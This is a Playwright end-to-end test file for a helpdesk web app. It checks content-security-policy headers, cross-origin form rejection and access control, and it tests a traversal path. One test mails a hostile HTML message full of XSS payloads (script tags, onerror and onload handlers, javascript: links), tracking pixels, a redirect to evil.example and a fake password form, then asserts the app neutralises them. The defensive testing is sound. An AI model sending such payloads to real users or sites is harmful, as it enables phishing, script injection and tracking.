import { expect, type APIRequestContext } from "@playwright/test";
import { ADA, GIULIA, SARA } from "../support/demo";
import { sendMail } from "../support/mail";
import { signIn } from "../support/sign-in";
import { test } from "../support/test";

// What only the whole server shows: express, the built pages and a real browser together.

const HTML = { accept: "text/html" };
const NO_PAGE = /\/assets\/|\/raw$|\/html$|\/attachments\/|\/original|\.(png|svg|css|webmanifest)/;

/** Data, and files from where the policy lets scripts come. */
const NEEDS_NO_NONCE = /^(?: type="application\/ld\+json"| type="module" src="\/assets\/[\w.-]+\.js")$/;

/** Visits what the pages link to, three of each shape, and says what a strict policy would complain of. */
async function complaintsOf(request: APIRequestContext, starts: readonly string[]): Promise<string[]> {
  const waiting = [...starts];
  const seen = new Set<string>();
  const shapes = new Map<string, number>();
  const complaints: string[] = [];
  for (let path = waiting.shift(); path !== undefined; path = waiting.shift()) {
    const shape = path.replace(/\?.*/, "").replace(/[0-9a-f-]{36}|\d+/g, "N");
    const visits = shapes.get(shape) ?? 0;
    if (seen.has(path) || visits > 2 || NO_PAGE.test(path)) continue;
    seen.add(path);
    shapes.set(shape, visits + 1);
    const answer = await request.get(path, { headers: HTML, maxRedirects: 0 });
    if (!answer.headers()["content-type"]?.includes("text/html")) continue;
    const text = await answer.text();
    const shown = text.replace(/<script\b[\s\S]*?<\/script>/g, "");
    const complain = (what: string) => complaints.push(`${path}: ${what}`);
    const policy = answer.headers()["content-security-policy"] ?? "";
    // Pages that a cache may keep carry no nonce: they run files of ours and nothing else.
    const [, nonce] = /script-src 'self'(?: 'nonce-([^']+)')?;/.exec(policy) ?? [];
    if (!policy.includes("script-src 'self'") || !policy.includes("style-src 'self';") || /unsafe-/.test(policy))
      complain(`policy ${policy}`);
    if (!nonce && !path.startsWith("/help/")) complain("no nonce");
    for (const [, attributes = ""] of text.matchAll(/<script\b([^>]*)>/g))
      if (!(nonce && attributes.includes(`nonce="${nonce}"`)) && !NEEDS_NO_NONCE.test(attributes))
        complain(`script${attributes}`);
    for (const [bad] of shown.matchAll(/<[^>]*\s(style|on[a-z]+)=["'][^>]*>|<style\b|href="javascript:/gi))
      complain(bad.slice(0, 120));
    for (const header of ["x-content-type-options", "x-frame-options", "referrer-policy"])
      if (!answer.headers()[header]) complain(`no ${header}`);
    if (answer.status() >= 500) complain(String(answer.status()));
    for (const [, link = ""] of shown.matchAll(/href="(\/[^"#/][^"#]*)"/g)) waiting.push(link.replaceAll("&amp;", "&"));
  }
  expect(seen.size).toBeGreaterThanOrEqual(starts.length);
  return complaints;
}

test.describe("every page has the strict policy and nothing inline, errors too", () => {
  const doors = ["/", "/sign-in", "/sign-up", "/forgot-password", "/link/none", "/unsubscribe/none", "/nothing-here"];
  test("for strangers", async ({ request }) => {
    expect(await complaintsOf(request, [...doors, "/tickets/new", "/invitation/none"])).toEqual([]);
  });
  for (const [who, starts] of [
    [GIULIA, ["/", "/tickets", "/tickets/new", "/account", "/tickets/999999", "/desk"]],
    [SARA, ["/desk", "/desk/tickets", "/desk/outbox", "/desk/tickets/999999", "/desk/admin"]],
    [ADA, ["/desk/admin", "/desk/bin", "/desk/shortcuts"]],
  ] as const)
    test(`for ${who}`, async ({ page }) => {
      await signIn(page, who);
      expect(await complaintsOf(page.request, starts)).toEqual([]);
    });
});

test("a form from another site changes nothing, whoever is signed in", async ({ page }) => {
  await signIn(page, GIULIA);
  const elsewhere = { origin: "https://evil.example" };
  const form = { subject: "Forged", text: "by another site", formId: "00000000-0000-7000-8000-00000000beef" };
  for (const path of ["/tickets/new", "/sign-out", "/language", "/account", "/tickets/new.data"]) {
    const answer = await page.request.post(path, { form, headers: elsewhere, maxRedirects: 0 });
    expect(answer.status(), path).toBe(403);
    expect(await answer.text()).toContain("nothing was changed");
  }
  await page.goto("/tickets");
  await expect(page).not.toHaveURL(/sign-in/);
  await expect(page.getByText("Forged")).toHaveCount(0);
});

test("figures, originals and raw mails are not for strangers", async ({ request }) => {
  const get = async (path: string) => (await request.get(path, { maxRedirects: 0 })).status();
  expect(await get("/metrics")).toBe(401);
  expect(await get("/api/v1/tickets")).toBe(401);
  expect(await get("/live?topics=queue:x")).toBe(302);
  expect(await get("/messages/00000000-0000-7000-8000-00000000ffff/raw")).toBe(302);
  expect(await get("/kit")).toBe(404);
  expect(await get("/assets/..%2f..%2fserver%2findex.js")).toBe(404);
});

test("a mail that attacks its reader is harmless in the conversation and as the original", async ({
  page,
  baseURL,
}) => {
  const subject = `Hostile ${Date.now()}`;
  await sendMail({
    from: "Mallory <mallory@evil.example>",
    to: "support@northwind.example",
    subject,
    html: `<p>The harmless words</p><script>document.title = "owned"</script>
      <img src=x onerror="document.title='owned'"><img src="https://tracker.example/pixel.gif">
      <link rel="preconnect" href="https://tracker.example"><meta http-equiv="refresh" content="0;url=https://evil.example/">
      <style>* { position: fixed; inset: 0; background: url(https://tracker.example/bg.gif) }</style>
      <div style="position:fixed;inset:0;z-index:9999;background:red">covered</div>
      <form action="https://evil.example/"><input name="password"><button>Sign in again</button></form>
      <a href="javascript:document.title='owned'">press me</a><svg onload="document.title='owned'"></svg>
      <iframe src="https://evil.example/"></iframe><base href="https://evil.example/">`,
  });
  const foreign = new Set<string>();
  page.on("request", (request) => {
    const own = request.url().startsWith(baseURL ?? "") || /^(data|blob|about):/.test(request.url());
    if (!own) foreign.add(request.url());
  });
  // The browser tells of a request that the policy stopped before it left.
  page.on("requestfailed", (request) => {
    if (request.failure()?.errorText === "csp") foreign.delete(request.url());
  });
  await signIn(page, SARA);
  await expect(async () => {
    await page.goto("/desk/tickets?view=open");
    await page
      .getByRole("link", { name: new RegExp(subject) })
      .first()
      .click({ timeout: 1_000 });
  }).toPass({ timeout: 20_000 });
  await expect(page.getByText("The harmless words").first()).toBeVisible();
  const body = page.locator("main");
  await expect(body.locator("form[action*=evil], iframe[src*=evil], [href^=javascript], main script")).toHaveCount(0);
  await expect(body.getByRole("button", { name: "Sign in again" })).toHaveCount(0);
  expect(await page.title()).not.toBe("owned");

  const address = await page.locator('[href*="/original"], [src*="/original"], [data-src*="/original"]').first();
  const original = (await address.getAttribute("href")) ?? (await address.getAttribute("src")) ?? "";
  expect(original).toMatch(/^\/messages\/[0-9a-f-]+\/original/);
  await page.goto(original);
  await expect(page.getByText("The harmless words")).toBeVisible();
  await page.getByText("press me").dispatchEvent("click");
  await page.waitForTimeout(500);
  expect(await page.title()).toBe(subject);
  expect(page.url()).toContain(original);
  expect([...foreign]).toEqual([]);
});
